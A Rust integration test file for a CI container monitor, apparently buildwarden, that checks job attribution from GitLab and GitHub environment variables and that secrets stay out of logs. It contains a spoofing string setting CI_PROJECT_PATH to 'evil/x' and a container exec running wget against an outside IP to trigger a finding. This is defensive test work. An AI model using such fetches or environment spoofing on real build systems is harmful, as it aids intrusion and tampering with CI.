//! Jobs: how they are told, and their reports and gates.

use crate::harness::{Dir, Docker, Podman, until};
use buildwarden::report::model::Job;
use std::fs;

/// Waits until a run's annotation log has a line with this in it.
#[track_caller]
fn logged(dir: &Dir, run: &str, what: &str) {
    let log = dir.state().join("containers").join(run).join("annotations.jsonl");
    until(&format!("{what} in {}", log.display()), || {
        fs::read_to_string(&log).ok()?.contains(what).then_some(())
    });
}

/// Every byte that was written about a run.
fn written(dir: &Dir, run: &str) -> Vec<u8> {
    let entries = fs::read_dir(dir.state().join("containers").join(run)).unwrap();
    entries.flat_map(|entry| fs::read(entry.unwrap().path()).unwrap()).collect()
}

const LATER: &str = "export CI_PROJECT_PATH=evil/x CI_JOB_ID=1; exec /bin/true";

#[test]
fn root_podman_exec_names_the_job() {
    let dir = Dir::new();
    let podman = Podman::new(&dir);
    // The entrypoint's own later words are the build's, too.
    let script = format!("sh -c '{LATER}'; exec sleep 600");
    let id = podman.run(&["--detach", "--name", "agent", "img:1", "sh", "-c", &script]);
    let id = id.expect_code(0).stdout().trim_end().to_owned();
    let exec = |job: &str, command: &[&str]| {
        let job = format!("CI_JOB_ID={job}");
        let options = ["exec", "-e", "CI_PROJECT_PATH=acme/web", "-e", &job, "-e", "KEY=hunter2"];
        podman.podman(&[&options[..], &["agent"], command].concat()).expect_code(0);
    };
    podman.podman(&["exec", "agent", "sh", "-c", LATER]).expect_code(0);
    exec("7", &["sh", "-c", LATER]);
    logged(&dir, &id, "dev.buildwarden.job.1");
    exec("7", &["true"]);
    exec("8", &["true"]);
    podman.podman(&["rm", "--force", "--time", "0", "agent"]).expect_code(0);

    let report = dir.report(&id);
    let execs = dir.execs(&id);
    // After the entrypoint's, and that of the first process executed into it.
    let first = execs.iter().filter(|exec| exec.has(LATER)).nth(2).unwrap();
    let source = |exec: u64| {
        format!("GitLab CI (CI_PROJECT_PATH, CI_JOB_ID) in the environment of exec {exec}")
    };
    let last = execs.iter().rfind(|exec| exec.has("true") || exec.has("/bin/true")).unwrap();
    let job = Job { id: "acme/web/7".to_owned(), source: source(first.sequence) };
    assert_eq!(report.job.as_ref(), Some(&job), "{execs:?}");
    let other = Job { id: "acme/web/8".to_owned(), source: source(last.sequence) };
    assert_eq!(report.other_jobs, [other]);
    assert_eq!(report.completeness.reasons, [""; 0]);
    assert_eq!(report.verdict.as_str(), "clean", "{:?}", report.completeness);
    let entered = |exec: &&crate::harness::Exec| exec.flags.iter().any(|flag| flag == "entered");
    // Two images of each of two, and one of each of the others.
    assert_eq!(execs.iter().filter(entered).count(), 6, "{execs:?}");
    assert!(!entered(&&execs[0]), "{execs:?}");
    let written = String::from_utf8_lossy(&written(&dir, &id)).into_owned();
    assert!(!written.contains("hunter2") && !written.contains("KEY="), "{written}");
    dir.expect_nothing_live();
}

#[test]
fn root_docker_exec_names_the_job() {
    let dir = Dir::new();
    let docker = Docker::new(&dir);
    docker.run(&["--detach", "--name", "steps"], "sleep 600").expect_code(0);
    let id = docker.id("steps");
    let variables = [
        "GITHUB_REPOSITORY=acme/web",
        "GITHUB_RUN_ID=42",
        "GITHUB_RUN_ATTEMPT=1",
        "GITHUB_JOB=build",
        "RUNNER_NAME=r1",
    ];
    let long = format!("A={}", "x".repeat(30_000));
    let mut args = vec!["exec"];
    // More than what is delivered: what comes first is read.
    args.extend(variables.iter().chain([&long.as_str()]).flat_map(|v| ["--env", v]));
    args.extend(["steps", "wget", "http://198.51.100.40/x"]);
    docker.docker(&args).expect_code(1);
    docker.docker(&["rm", "--force", "steps"]).expect_code(0);
    let report = dir.report(&id);
    let job = report.job.unwrap();
    assert_eq!(job.id, "acme/web/42/1/build/r1");
    let [finding] = &report.findings[..] else { panic!("{:?}", report.findings) };
    let named = format!("in the environment of exec {}", finding.exec.sequence);
    assert!(job.source.ends_with(&named), "{job:?}");
    assert!(finding.exec.flags.iter().any(|flag| flag == "entered"), "{finding:?}");
    let advice = finding.advice.join("\n");
    assert!(advice.contains("acme/web/42/1/build/r1"), "{advice}");
    dir.expect_nothing_live();
}
